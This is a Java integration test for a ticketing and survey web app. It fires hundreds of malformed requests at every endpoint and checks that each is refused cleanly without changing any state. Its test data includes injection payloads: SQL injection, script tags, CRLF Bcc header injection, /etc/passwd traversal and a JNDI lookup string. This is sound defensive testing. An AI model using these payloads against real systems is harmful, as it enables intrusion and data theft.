package io.touchpoint.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.GreenMailUtil;
import io.touchpoint.postsales.PostSalesProcess;
import io.touchpoint.testing.Http;
import io.touchpoint.testing.Mails;
import io.touchpoint.testing.TestSmtp;
import io.touchpoint.testing.TouchpointSpringTest;
import jakarta.mail.Address;
import jakarta.mail.MessagingException;
import jakarta.mail.internet.MimeMessage;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.variable.Variables;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Bad input over every public endpoint, generated from a table of endpoints, fields and ways to get them wrong:
 * malformed and truncated JSON, repeated keys, wrong types, bodies and lists too large, control and line-separator
 * characters, injection strings (SQL, script, CRLF header injection, path traversal), wrong tokens and keys, wrong
 * methods and content types. Every answer is a 4xx (never 5xx), problem details ({@code application/problem+json})
 * for the APIs; and nothing changed: process instances, emails and the rows of Touchpoint's tables are counted before
 * and after.
 */
@TouchpointSpringTest
class BadInputCorpusTest {

    @RegisterExtension
    static GreenMailExtension smtp = new GreenMailExtension(TestSmtp.SETUP).withPerMethodLifecycle(false);

    static final String DOMAIN = "@corpus.example";
    static final Pattern SURVEY_LINK = Pattern.compile("/survey/([0-9a-f-]{36})\\?token=([A-Za-z0-9_-]+)");
    static final Pattern CSRF = Pattern.compile("name=\"_csrf\"\\s+value=\"([^\"]+)\"|value=\"([^\"]+)\"\\s+name=\"_csrf\"");

    enum Kind { ONE_LINE, MULTI_LINE, EMAIL, ENUM, PHONE, ACCOUNT, INT, BOOL, LIST, TAGS, DATE, TOKEN }

    /** A field of a JSON body: its kind, whether it is required, its valid value (JSON) and its largest length. */
    record Field(String name, Kind kind, boolean required, String valid, int max, int min, int top) {
        static Field of(String name, Kind kind, boolean required, String valid, int max) {
            return new Field(name, kind, required, valid, max, 0, 0);
        }
    }

    /** A JSON endpoint: its path, the headers that let a request in, and its fields, all valid. */
    record Endpoint(String name, String path, List<String> headers, List<Field> fields) {
        String body(Map<String, String> values) {
            return values.entrySet().stream().map(e -> "\"" + e.getKey() + "\": " + e.getValue())
                    .collect(Collectors.joining(", ", "{", "}"));
        }

        Map<String, String> valid() {
            Map<String, String> values = new LinkedHashMap<>();
            fields.forEach(f -> values.put(f.name(), f.valid()));
            return values;
        }

        String with(String field, String json) {
            Map<String, String> values = valid();
            values.put(field, json);
            return body(values);
        }
    }

    /** One request of the corpus; {@code expected} 0: any 4xx. */
    record Case(String name, String method, String path, String contentType, byte[] body, List<String> headers, int expected,
                boolean form) {
    }

    @LocalServerPort
    int port;
    @Autowired
    RuntimeService runtime;
    @Autowired
    HistoryService history;
    @Autowired
    ManagementService management;
    @Autowired
    org.camunda.bpm.engine.TaskService tasks;
    @Autowired
    JdbcTemplate jdbc;

    Http http;
    String ticket;
    String token;
    String survey;
    String surveyToken;

    @Test
    void everyBadInputIsRefusedWithA4xxAndChangesNothing() throws Exception {
        http = new Http(port);
        fixtures();
        List<Case> cases = cases();
        assertThat(cases).as("the corpus").hasSizeGreaterThanOrEqualTo(300);
        settle();
        Map<String, Long> before = snapshot();

        List<String> failures = new ArrayList<>();
        for (Case c : cases) {
            HttpResponse<String> response = send(c);
            String problem = check(c, response);
            if (problem != null) {
                failures.add(c.name() + " [" + c.method() + " " + c.path() + "]: " + problem);
            }
        }

        settle();
        assertThat(failures).as("of %d cases", cases.size()).isEmpty();
        assertThat(snapshot()).as("nothing changed").isEqualTo(before);
    }

    // ----------------------------------------------------------------------------------------------------- the table

    List<Endpoint> endpoints() {
        String focAt = "\"" + OffsetDateTime.now(ZoneOffset.UTC).plusDays(10).withNano(0) + "\"";
        List<String> staff = List.of("Authorization", Http.basic("kim", "demo"));
        return List.of(
                new Endpoint("ticket", "/api/tickets", List.of(), List.of(
                        Field.of("subject", Kind.ONE_LINE, true, "\"Phones down\"", 200),
                        Field.of("description", Kind.MULTI_LINE, true, "\"No dial tone since 7:00.\"", 4000),
                        Field.of("category", Kind.ENUM, true, "\"OUTAGE\"", 0),
                        Field.of("priority", Kind.ENUM, true, "\"P2\"", 0),
                        Field.of("requesterEmail", Kind.EMAIL, true, "\"cora" + DOMAIN + "\"", 254),
                        Field.of("requesterName", Kind.ONE_LINE, true, "\"Cora Pus\"", 120),
                        Field.of("accountNumber", Kind.ACCOUNT, false, "\"ACC-1\"", 40),
                        Field.of("channel", Kind.ENUM, false, "\"PORTAL\"", 0),
                        Field.of("requesterType", Kind.ENUM, false, "\"CUSTOMER\"", 0),
                        Field.of("project", Kind.ACCOUNT, false, "\"CORE-NETWORK\"", 60))),
                new Endpoint("quote request", "/api/quote-requests", List.of(), List.of(
                        Field.of("companyName", Kind.ONE_LINE, true, "\"Corpus Inc\"", 120),
                        Field.of("contactName", Kind.ONE_LINE, true, "\"Cora Pus\"", 120),
                        Field.of("contactEmail", Kind.EMAIL, true, "\"cora" + DOMAIN + "\"", 254),
                        Field.of("phone", Kind.PHONE, true, "\"+1 555 010 0100\"", 0),
                        new Field("seats", Kind.INT, true, "12", 0, 1, 100_000),
                        Field.of("requestedServices", Kind.LIST, true, "[\"HOSTED_VOICE\"]", 20),
                        Field.of("auxiliaryServices", Kind.LIST, false, "[\"BACKUP_INTERNET\"]", 20),
                        Field.of("currentProvider", Kind.ONE_LINE, false, "\"Old Telco\"", 120),
                        Field.of("notes", Kind.MULTI_LINE, false, "\"Call after 3.\"", 2000))),
                new Endpoint("comment", "/api/tickets/" + ticket + "/comments?token=" + token, List.of(), List.of(
                        Field.of("message", Kind.MULTI_LINE, true, "\"Still down.\"", 4000))),
                new Endpoint("confirmation", "/api/tickets/" + ticket + "/confirmation", List.of("X-Tracking-Token", token),
                        List.of(new Field("resolved", Kind.BOOL, true, "true", 0, 0, 0),
                                Field.of("comment", Kind.MULTI_LINE, false, "\"Thanks\"", 2000))),
                new Endpoint("order event", "/api/orders/O-2026-88888/events", List.of("X-API-Key", "test-events-key"),
                        List.of(Field.of("type", Kind.ENUM, true, "\"PORT_REJECTED\"", 0),
                                Field.of("reference", Kind.ONE_LINE, false, "\"R-1\"", 200),
                                Field.of("focAt", Kind.DATE, false, focAt, 0),
                                Field.of("reason", Kind.MULTI_LINE, false, "\"Name mismatch\"", 1000))),
                new Endpoint("survey answer", "/api/surveys/" + survey, List.of(), List.of(
                        Field.of("token", Kind.TOKEN, true, "\"" + surveyToken + "\"", 100),
                        new Field("satisfaction", Kind.INT, true, "4", 0, 1, 5),
                        new Field("personRating", Kind.INT, false, "5", 0, 1, 5),
                        Field.of("comment", Kind.MULTI_LINE, false, "\"Fine\"", 2000))),
                new Endpoint("article", "/api/kb/articles", staff, List.of(
                        Field.of("title", Kind.ONE_LINE, true, "\"Phones reboot\"", 200),
                        Field.of("symptoms", Kind.MULTI_LINE, true, "\"They restart.\"", 4000),
                        Field.of("workaround", Kind.MULTI_LINE, true, "\"Update the firmware.\"", 8000),
                        Field.of("category", Kind.ENUM, true, "\"EQUIPMENT\"", 0),
                        Field.of("tags", Kind.TAGS, false, "[\"phones\"]", 10),
                        Field.of("sourceTicket", Kind.ONE_LINE, false, "\"T-2026-00001\"", 32))));
    }

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE support_ticket; --",
            "<script>alert(1)</script>", "\\r\\nBcc: eve@evil.example", "../../../../etc/passwd", "${jndi:ldap://evil/x}",
            "#{1+1}");

    List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        for (Endpoint endpoint : endpoints()) {
            bodyCases(endpoint, cases);
            for (Field field : endpoint.fields()) {
                fieldCases(endpoint, field, cases);
            }
        }
        accessCases(cases);
        formCases(cases);
        portalFormCases(cases);
        return cases;
    }

    /** Whole bodies gone wrong, and requests wrong in their method, content type or what they accept. */
    void bodyCases(Endpoint e, List<Case> cases) {
        String valid = e.body(e.valid());
        Map<String, String> malformed = new LinkedHashMap<>();
        malformed.put("empty body", "");
        malformed.put("only an opening brace", "{");
        malformed.put("only a closing brace", "}");
        malformed.put("an open array", "[");
        malformed.put("a key without value", "{\"a\":}");
        malformed.put("a bare word", "nul");
        malformed.put("single quotes", "{'a': 1}");
        malformed.put("a trailing comma", valid.substring(0, valid.length() - 1) + ",}");
        malformed.put("garbage after the object", valid + "x");
        malformed.put("a second object", valid + "{}");
        malformed.put("truncated at a quarter", valid.substring(0, valid.length() / 4));
        malformed.put("truncated at half", valid.substring(0, valid.length() / 2));
        malformed.put("truncated by one", valid.substring(0, valid.length() - 1));
        malformed.put("a NUL byte", "\u0000");
        malformed.put("an array", "[]");
        malformed.put("null", "null");
        malformed.put("a number", "1");
        malformed.put("a string", "\"text\"");
        malformed.put("true", "true");
        malformed.put("an unknown field", valid.replace("{", "{\"<script>\": 1, "));
        malformed.put("an unknown SQL field", valid.replace("{", "{\"1; DROP TABLE survey\": 1, "));
        malformed.put("deep nesting", "[".repeat(5000) + "]".repeat(5000));
        malformed.put("a number too long", valid.replace("{", "{\"n\": " + "9".repeat(2000) + ", "));
        malformed.forEach((name, body) -> cases.add(json(e, name, e.path(), body, 400)));

        cases.add(json(e, "a body over 64 KB", e.path(), valid.replace("{", "{\"padding\": \"" + "x".repeat(70_000) + "\", "), 413));
        cases.add(new Case(e.name() + ": text/plain", "POST", e.path(), "text/plain", bytes(valid), e.headers(), 415, false));
        cases.add(new Case(e.name() + ": XML", "POST", e.path(), "application/xml", bytes("<a/>"), e.headers(), 415, false));
        cases.add(new Case(e.name() + ": no content type", "POST", e.path(), null, bytes(valid), e.headers(), 415, false));
        cases.add(new Case(e.name() + ": a form", "POST", e.path(), "application/x-www-form-urlencoded", bytes("a=1"),
                e.headers(), 415, false));
        for (String method : List.of("PUT", "DELETE", "PATCH")) {
            cases.add(new Case(e.name() + ": " + method, method, e.path(), "application/json", bytes(valid), e.headers(), 405,
                    false));
        }
        List<String> csv = new ArrayList<>(e.headers());
        csv.addAll(List.of("Accept", "text/csv"));
        cases.add(new Case(e.name() + ": accepts only CSV", "POST", e.path(), "application/json",
                bytes(e.body(withAllMutated(e))), csv, 406, false));
    }

    /** The valid body with its first required field left empty: still refused whatever is accepted. */
    private static Map<String, String> withAllMutated(Endpoint e) {
        Map<String, String> values = e.valid();
        values.put(e.fields().get(0).name(), "null");
        return values;
    }

    /** Each field repeated, of the wrong type, empty, too long, with control characters or injection strings. */
    void fieldCases(Endpoint e, Field f, List<Case> cases) {
        String valid = e.body(e.valid());
        String name = e.name() + "." + f.name();
        cases.add(json(e, f.name() + " twice", e.path(),
                valid.replace("\"" + f.name() + "\": ", "\"" + f.name() + "\": " + f.valid() + ", \"" + f.name() + "\": "), 400));
        List<String> wrongTypes = switch (f.kind()) {
            case INT -> List.of("\"7\"", "4.5", "true", "[]", "{}", "1e40", "2147483648");
            case BOOL -> List.of("1", "2", "\"true\"", "[]", "{}");
            case LIST, TAGS -> List.of("\"HOSTED_VOICE\"", "1", "{}", "[null]", "[1]", "[[]]");
            default -> List.of("42", "4.2", "true", "[]", "{}", "[\"a\"]");
        };
        wrongTypes.forEach(value -> cases.add(json(e, f.name() + " = " + value, e.path(), e.with(f.name(), value), 400)));
        if (f.required()) {
            cases.add(json(e, f.name() + " null", e.path(), e.with(f.name(), "null"), 400));
            Map<String, String> without = e.valid();
            without.remove(f.name());
            cases.add(json(e, f.name() + " missing", e.path(), e.body(without), 400));
        }
        if (f.max() > 0 && f.kind() != Kind.LIST && f.kind() != Kind.TAGS) {
            cases.add(json(e, f.name() + " too long", e.path(), e.with(f.name(), string("a".repeat(f.max() + 1))), 400));
        }
        List<String> invalid = new ArrayList<>();
        switch (f.kind()) {
            case ONE_LINE -> {
                invalid.addAll(List.of("a\\r\\nBcc: eve@evil.example", "a\\u2028b", "a\\u2029b", "a\\u0000b", "a\\u001b[31mred",
                        "a\\u0085b", "tab\\there"));
                if (f.required()) {
                    invalid.addAll(List.of("", "   "));
                }
            }
            case MULTI_LINE -> {
                invalid.addAll(List.of("a\\u0000b", "\\u001b[2J", "bell\\u0007", "a\\u007fb"));
                if (f.required()) {
                    invalid.addAll(List.of("", " \\n "));
                }
            }
            case EMAIL -> {
                invalid.addAll(List.of("\\\"a;b\\\"@example.org", "a;b@example.org", "Eve <eve@evil.example>",
                        "cora" + DOMAIN + "\\r\\nBcc: eve@evil.example", "cora" + DOMAIN + ",eve@evil.example", "no-at-sign",
                        "", "eve@localhost"));
                // #{1+1}@... is a valid address (RFC 5322 atext)
                INJECTIONS.stream().filter(s -> !s.startsWith("#")).forEach(s -> invalid.add(s + DOMAIN));
            }
            case ENUM, PHONE -> {
                invalid.addAll(INJECTIONS);
                invalid.addAll(List.of("outage", "", "P9", "OUTAGE\\u0000"));
            }
            case ACCOUNT -> {
                invalid.addAll(INJECTIONS);
                invalid.add("ACC 1");
            }
            case DATE -> invalid.addAll(List.of("+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z",
                    "+10000000000-01-01T00:00:00Z", "2026-13-01T00:00:00Z", "yesterday", "", "2026-02-30T10:00:00Z",
                    "+999999999-12-31T23:59:59-18:00"));
            case TOKEN -> {
                invalid.addAll(INJECTIONS);
                invalid.addAll(List.of("", "x".repeat(43), surveyToken + "x", surveyToken.substring(1)));
            }
            case INT -> List.of(f.min() - 1, f.top() + 1, -1).forEach(n -> cases.add(json(e, f.name() + " = " + n, e.path(),
                    e.with(f.name(), Integer.toString(n)), 400)));
            case LIST -> {
                cases.add(json(e, f.name() + " too many", e.path(), e.with(f.name(),
                        Collections.nCopies(f.max() + 1, "\"HOSTED_VOICE\"").stream().collect(Collectors.joining(",", "[", "]"))), 400));
                cases.add(json(e, f.name() + " unknown service", e.path(), e.with(f.name(), "[\"TELEPORTATION\"]"), 400));
                INJECTIONS.forEach(s -> cases.add(json(e, f.name() + " = [" + s + "]", e.path(), e.with(f.name(),
                        "[" + string(s) + "]"), 400)));
                if (f.required()) {
                    cases.add(json(e, f.name() + " empty", e.path(), e.with(f.name(), "[]"), 400));
                }
            }
            case TAGS -> {
                cases.add(json(e, "eleven tags", e.path(), e.with(f.name(), Collections.nCopies(11, "\"t\"").stream()
                        .collect(Collectors.joining(",", "[", "]"))), 400));
                cases.add(json(e, "twelve tags in one", e.path(), e.with(f.name(), "[\"a,b,c,d,e,f,g,h,i,j,k,l\"]"), 400));
                for (String tag : List.of("", "a\\u0000", "a\\u2028b", "x".repeat(31))) {
                    cases.add(json(e, "tag " + tag, e.path(), e.with(f.name(), "[" + string(tag) + "]"), 400));
                }
            }
            case BOOL -> { }
        }
        int status = f.kind() == Kind.TOKEN ? 0 : 400;
        invalid.forEach(value -> cases.add(json(e, name + " = " + value, e.path(), e.with(f.name(), string(value)), status)));
    }

    /** Wrong tokens, keys and logins, and addresses that name nothing. */
    void accessCases(List<Case> cases) {
        String comment = "{\"message\": \"Still down.\"}";
        List<String> wrongTokens = List.of("", "wrong", token.substring(1), token + "x", new StringBuilder(token).reverse()
                .toString(), "' OR '1'='1", "<script>", "../../etc/passwd");
        for (String wrong : wrongTokens) {
            String query = "?token=" + encode(wrong);
            cases.add(new Case("read with token " + wrong, "GET", "/api/tickets/" + ticket + query, null, null, List.of(), 404,
                    false));
            cases.add(jsonCase("comment with token " + wrong, "/api/tickets/" + ticket + "/comments" + query, comment,
                    List.of(), 404));
            cases.add(jsonCase("confirmation with token " + wrong, "/api/tickets/" + ticket + "/confirmation" + query,
                    "{\"resolved\": true}", List.of(), 404));
            if (!wrong.isEmpty()) {
                cases.add(new Case("read with header token " + wrong, "GET", "/api/tickets/" + ticket, null, null,
                        List.of("X-Tracking-Token", wrong), 404, false));
            }
        }
        cases.add(new Case("read without token", "GET", "/api/tickets/" + ticket, null, null, List.of(), 404, false));
        for (String number : List.of("T-2026-99999", ticket + "' OR '1'='1", "<script>", "..%2F..%2Fetc", "%00", "T-2026-0000%0a1",
                "x".repeat(3000), ticket.toLowerCase())) {
            String path = "/api/tickets/" + (number.contains("%") ? number : encode(number));
            cases.add(new Case("read ticket " + number, "GET", path + "?token=" + token, null, null, List.of(), 0, false));
            cases.add(jsonCase("comment on ticket " + number, path + "/comments?token=" + token, comment, List.of(), 0));
        }
        String event = "{\"type\": \"ORDER_SIGNED\"}";
        for (String key : List.of("", "wrong", "test-events-ke", "TEST-EVENTS-KEY", "test-events-keyx", "' OR '1'='1")) {
            cases.add(jsonCase("event with key '" + key + "'", "/api/orders/O-2026-88888/events", event,
                    key.isEmpty() ? List.of() : List.of("X-API-Key", key), 401));
        }
        for (String order : List.of("' OR '1'='1", "<script>", "O-2026-00001%00", "..%2F..")) {
            cases.add(jsonCase("event for order " + order, "/api/orders/" + (order.contains("%") ? order : encode(order))
                    + "/events", event, List.of("X-API-Key", "test-events-key"), 0));
        }
        String article = "{\"title\": \"T\", \"symptoms\": \"S\", \"workaround\": \"W\", \"category\": \"EQUIPMENT\"}";
        for (List<String> login : List.of(List.<String>of(), List.of("Authorization", Http.basic("kim", "wrong")),
                List.of("Authorization", Http.basic("nobody", "demo")), List.of("Authorization", "Basic !!!"),
                List.of("Authorization", "Bearer x"), List.of("Authorization", Http.basic("sara", "demo")),
                List.of("Authorization", Http.basic("' OR '1'='1", "x")))) {
            cases.add(jsonCase("article with login " + login, "/api/kb/articles", article, login, 0));
            cases.add(new Case("search with login " + login, "GET", "/api/kb/articles?q=x", null, null, login, 0, false));
        }
        String answer = "{\"token\": \"%s\", \"satisfaction\": 4}";
        for (String wrong : List.of("wrong", surveyToken + "x", "' OR '1'='1")) {
            cases.add(jsonCase("survey answer with token " + wrong, "/api/surveys/" + survey, answer.formatted(wrong),
                    List.of(), 404));
        }
        for (String id : List.of("unknown", "' OR '1'='1", "<script>", "..%2F..", "x".repeat(2000))) {
            cases.add(jsonCase("survey answer for " + id, "/api/surveys/" + (id.contains("%") ? id : encode(id)),
                    answer.formatted(surveyToken), List.of(), 0));
        }
        String ticketBody = "{\"subject\": \"S\", \"description\": \"D\", \"category\": \"OUTAGE\", \"priority\": \"P3\", "
                + "\"requesterEmail\": \"cora" + DOMAIN + "\", \"requesterName\": \"Cora\"}";
        for (String key : List.of("x".repeat(256), "with space", "tab\there")) {
            cases.add(jsonCase("ticket with Idempotency-Key " + key.length(), "/api/tickets", ticketBody,
                    List.of("Idempotency-Key", key), 400));
        }
    }

    /** The tracking page's and the survey page's forms. */
    void formCases(List<Case> cases) {
        String reply = "/track/" + ticket + "/reply";
        String confirm = "/track/" + ticket + "/confirmation";
        String answer = "/survey/" + survey;
        String t = "token=" + encode(token);
        String s = "token=" + encode(surveyToken);
        List<String[]> forms = List.of(
                new String[] {reply, "message=hi", "400"},
                new String[] {reply, t, "400"},
                new String[] {reply, t + "&message=", "400"},
                new String[] {reply, t + "&message=%20%20", "400"},
                new String[] {reply, t + "&message=" + "a".repeat(4001), "400"},
                new String[] {reply, t + "&message=a%00b", "400"},
                new String[] {reply, t + "&message=%1B%5B2J", "400"},
                new String[] {reply, "token=wrong&message=hi", "404"},
                new String[] {reply, "token=%27+OR+%271%27%3D%271&message=hi", "404"},
                new String[] {reply, "token=" + encode(token.substring(2)) + "&message=hi", "404"},
                new String[] {reply, t + "&message=" + "a".repeat(70_000), "413"},
                new String[] {"/track/T-2026-99999/reply", t + "&message=hi", "404"},
                new String[] {"/track/%3Cscript%3E/reply", t + "&message=hi", "404"},
                new String[] {confirm, t, "400"},
                new String[] {confirm, t + "&resolved=maybe", "400"},
                new String[] {confirm, t + "&resolved=true&comment=" + "c".repeat(2001), "400"},
                new String[] {confirm, t + "&resolved=true&comment=a%00b", "400"},
                new String[] {confirm, "token=wrong&resolved=true", "404"},
                new String[] {confirm, t + "&resolved=true", "409"},
                new String[] {confirm, t + "&resolved=false&comment=" + encode("<script>alert(1)</script>"), "409"},
                new String[] {answer, "satisfaction=4", "404"},
                new String[] {answer, "token=wrong&satisfaction=4", "404"},
                new String[] {answer, "token=" + encode("' OR '1'='1") + "&satisfaction=4", "404"},
                new String[] {answer, s, "400"},
                new String[] {answer, s + "&satisfaction=0", "400"},
                new String[] {answer, s + "&satisfaction=6", "400"},
                new String[] {answer, s + "&satisfaction=abc", "400"},
                new String[] {answer, s + "&satisfaction=1.5", "400"},
                new String[] {answer, s + "&satisfaction=99999999999", "400"},
                new String[] {answer, s + "&satisfaction=4&personRating=9", "400"},
                new String[] {answer, s + "&satisfaction=4&comment=" + "c".repeat(2001), "400"},
                new String[] {answer, s + "&satisfaction=4&comment=a%00b", "400"},
                new String[] {answer, s + "&satisfaction=4&comment=" + "c".repeat(70_000), "413"},
                new String[] {"/survey/unknown", s + "&satisfaction=4", "404"},
                new String[] {"/survey/%3Cscript%3E", s + "&satisfaction=4", "404"});
        for (String[] form : forms) {
            cases.add(new Case("form " + abbreviate(form[1]), "POST", form[0], "application/x-www-form-urlencoded",
                    bytes(form[1]), List.of("Accept", "text/html"), Integer.parseInt(form[2]), true));
        }
        for (String path : List.of(reply, confirm, answer)) {
            cases.add(new Case("form as JSON", "POST", path, "application/json", bytes("{\"message\": \"hi\"}"), List.of(),
                    415, true));
            cases.add(new Case("form as text", "POST", path, "text/plain", bytes("message=hi"), List.of(), 415, true));
            cases.add(new Case("form by PUT", "PUT", path, "application/x-www-form-urlencoded", bytes(t), List.of(), 405,
                    true));
        }
    }

    /**
     * The customer portal's forms that need no login (register, forgotten password, set a password from the emailed
     * link): each refusal is the form again with its error and a 4xx, and no account is created. (The forms behind
     * the login are held by PortalRequestsTest.)
     */
    void portalFormCases(List<Case> cases) {
        String register = "/portal/register";
        String reset = "/portal/password-reset";
        String password = "/portal/password";
        String fine = "email=" + encode("corpus-portal" + DOMAIN);
        List<String[]> forms = new ArrayList<>(List.of(
                new String[] {register, "", "400"},
                new String[] {register, fine, "400"},
                new String[] {register, "name=Ann", "400"},
                new String[] {register, "name=Ann&email=not-an-address", "400"},
                new String[] {register, "name=Ann&email=a%00b" + encode(DOMAIN), "400"},
                new String[] {register, "name=Ann&email=" + encode("a@b" + DOMAIN + "\r\nBcc: eve@evil.example"), "400"},
                new String[] {register, "name=%20%20&" + fine, "400"},
                new String[] {register, "name=Ann%0ALee&" + fine, "400"},
                new String[] {register, "name=a%00b&" + fine, "400"},
                new String[] {register, "name=" + "n".repeat(121) + "&" + fine, "400"},
                new String[] {register, "name=Ann&email=" + "e".repeat(70_000), "413"},
                new String[] {register, "name=Ann&" + fine + "&accountNumber=ACC%201", "400"},
                new String[] {register, "name=Ann&" + fine + "&accountNumber=" + "A".repeat(41), "400"},
                new String[] {register, "name=Ann&" + fine + "&accountNumber=ACC%001", "400"},
                new String[] {register, "name=Ann&" + fine + "&accountNumber=ACC-1%0D%0ABcc:%20eve@evil.example", "400"},
                new String[] {register, "name=Ann&" + fine + "&accountNumber=" + "A".repeat(70_000), "413"},
                new String[] {reset, "", "400"},
                new String[] {reset, "email=nobody", "400"},
                new String[] {reset, "email=a%00b" + encode(DOMAIN), "400"},
                new String[] {reset, "email=" + "e".repeat(300) + encode(DOMAIN), "400"},
                new String[] {password, "password=secret-enough-1&repeat=secret-enough-1", "410"},
                new String[] {password, "token=wrong&password=secret-enough-1&repeat=secret-enough-1", "410"},
                new String[] {password, "token=" + encode("' OR '1'='1") + "&password=x&repeat=x", "410"}));
        for (String injection : INJECTIONS) {
            forms.add(new String[] {register, "name=Ann&email=" + encode(injection), "400"});
            forms.add(new String[] {reset, "email=" + encode(injection), "400"});
            forms.add(new String[] {register, "name=Ann&" + fine + "&accountNumber=" + encode(injection), "400"});
        }
        for (String[] form : forms) {
            cases.add(new Case("portal form " + abbreviate(form[1]), "POST", form[0], "application/x-www-form-urlencoded",
                    bytes(form[1]), List.of("Accept", "text/html"), Integer.parseInt(form[2]), true));
        }
        for (String path : List.of(register, reset, password)) {
            cases.add(new Case("portal form as JSON", "POST", path, "application/json", bytes("{\"email\": \"a@b.example\"}"),
                    List.of(), 415, true));
            cases.add(new Case("portal form by PUT", "PUT", path, "application/x-www-form-urlencoded", bytes(fine), List.of(),
                    405, true));
        }
    }

    // ------------------------------------------------------------------------------------------------ sending, checking

    HttpResponse<String> send(Case c) {
        List<String> headers = new ArrayList<>(c.headers());
        byte[] body = c.body();
        if (c.form() && c.body() != null) {
            String csrf = csrfFor(c.path());
            if (csrf != null && "application/x-www-form-urlencoded".equals(c.contentType())) {
                body = bytes(new String(body, StandardCharsets.UTF_8) + "&_csrf=" + encode(csrf));
            } else if (csrf != null) {
                // a body that is no form carries the token as a header, so the case tests the content type
                headers.addAll(List.of("X-CSRF-TOKEN", csrf));
            }
        }
        if (c.contentType() != null) {
            headers.addAll(List.of("Content-Type", c.contentType()));
        }
        return http.send(c.method(), c.path(), body, headers.toArray(String[]::new));
    }

    /** The page's CSRF token, when the page has one (after Spring Security); the session cookie stays in the client. */
    String csrfFor(String path) {
        String page = path.startsWith("/track/") ? "/track?ticket=" + ticket + "&token=" + encode(token)
                : path.startsWith("/portal/") ? "/portal/register"
                : "/survey/" + survey + "?token=" + encode(surveyToken);
        Matcher csrf = CSRF.matcher(http.get(page, "Accept", "text/html").body());
        return csrf.find() ? (csrf.group(1) != null ? csrf.group(1) : csrf.group(2)) : null;
    }

    /**
     * An exception's name or SQL in a refusal, as a word of its own: a page's CSRF token is random base64url, masked
     * anew for every page, and "SQL" turned up inside one (CI, 2026-12-02: one page in some thirty runs).
     */
    static final Pattern INSIDE = Pattern.compile("(?<![A-Za-z0-9_-])(SQL|[A-Za-z]*Exception)(?![A-Za-z0-9_-])");

    static String check(Case c, HttpResponse<String> response) {
        int status = response.statusCode();
        if (status < 400 || status >= 500) {
            return "answered " + status + ": " + abbreviate(response.body());
        }
        if (c.expected() != 0 && status != c.expected()) {
            return "answered " + status + ", expected " + c.expected() + ": " + abbreviate(response.body());
        }
        boolean api = c.path().startsWith("/api/");
        String type = Http.contentType(response);
        if (api && !type.equals("application/problem+json")) {
            return "content type '" + type + "'";
        }
        if (type.equals("application/problem+json") && !response.body().contains("\"status\":" + status)) {
            return "problem details without the status: " + abbreviate(response.body());
        }
        if (!api && !type.equals("application/problem+json") && !type.startsWith("text/html")) {
            return "a page's refusal is neither HTML nor problem details: '" + type + "'";
        }
        Matcher inside = INSIDE.matcher(response.body());
        if (inside.find()) {
            // where it says so, not the page's first line: that is what the next person needs to see
            String body = response.body();
            return "the answer gives away the inside (" + status + "): ..." + body.substring(Math.max(0, inside.start() - 300),
                    Math.min(body.length(), inside.end() + 300)).replace("\n", "\\n") + "...";
        }
        return null;
    }

    // ---------------------------------------------------------------------------------------------------- the world

    void fixtures() throws MessagingException {
        HttpResponse<String> created = http.postJson("/api/tickets", """
                {"subject": "Corpus fixture", "description": "The ticket the corpus aims at.", "category": "OUTAGE",
                 "priority": "P3", "requesterEmail": "fixture%s", "requesterName": "Fix Ture"}""".formatted(DOMAIN));
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        ticket = Http.json(created).get("ticketNumber").toString();
        token = Http.json(created).get("trackingToken").toString();

        String customer = runtime.startProcessInstanceByKey(PostSalesProcess.PROCESS_ID, "Q-CORPUS-1", Variables
                .putValue("orderNumber", "O-2026-88001").putValue("companyName", "Corpus Co").putValue("contactName", "Cora")
                .putValue("contactEmail", "survey" + DOMAIN).putValue("phone", "+1 555 010 0100").putValue("salesRep", "sara")
                .putValue("seats", 5).putValue("activationDate", new java.util.Date())).getId();
        // Marketing sends the survey, once the instance's background steps are done
        String send = await().atMost(Duration.ofSeconds(60)).until(() -> tasks.createTaskQuery().processInstanceId(customer)
                .taskDefinitionKey("Task_SendFollowUpSurvey").singleResult(), task -> task != null).getId();
        await().atMost(Duration.ofSeconds(60)).until(() -> management.createJobQuery().processInstanceId(customer)
                .executable().count() == 0);
        tasks.complete(send, Variables.putValue("surveyRecipientChecked", true));
        MimeMessage invitation = await().atMost(Duration.ofSeconds(60)).until(() -> Arrays.stream(smtp.getReceivedMessages())
                .filter(m -> to(m).equals("survey" + DOMAIN) && GreenMailUtil.getBody(m).contains("/survey/"))
                .findFirst().orElse(null), m -> m != null);
        Matcher link = SURVEY_LINK.matcher(Mails.text(invitation));
        assertThat(link.find()).isTrue();
        survey = link.group(1);
        surveyToken = link.group(2);
        await().atMost(Duration.ofSeconds(30)).until(() -> http.get("/survey/" + survey + "?token=" + surveyToken).body()
                .contains("name=\"satisfaction\""));
    }

    /** Waits until the engine has no job to run now and the outbox no email to the corpus, for two seconds on end. */
    void settle() {
        await().atMost(Duration.ofSeconds(120)).pollInterval(Duration.ofMillis(200)).during(Duration.ofSeconds(2))
                .until(() -> management.createJobQuery().executable().count() == 0 && jdbc.queryForObject(
                        "SELECT COUNT(*) FROM outbox_email WHERE status = 'PENDING' AND recipients_to LIKE ?", Long.class,
                        "%" + DOMAIN) == 0);
    }

    Map<String, Long> snapshot() {
        Map<String, Long> counts = new LinkedHashMap<>();
        counts.put("running process instances", runtime.createProcessInstanceQuery().count());
        counts.put("process instances ever", history.createHistoricProcessInstanceQuery().count());
        counts.put("variables", runtime.createVariableInstanceQuery().count());
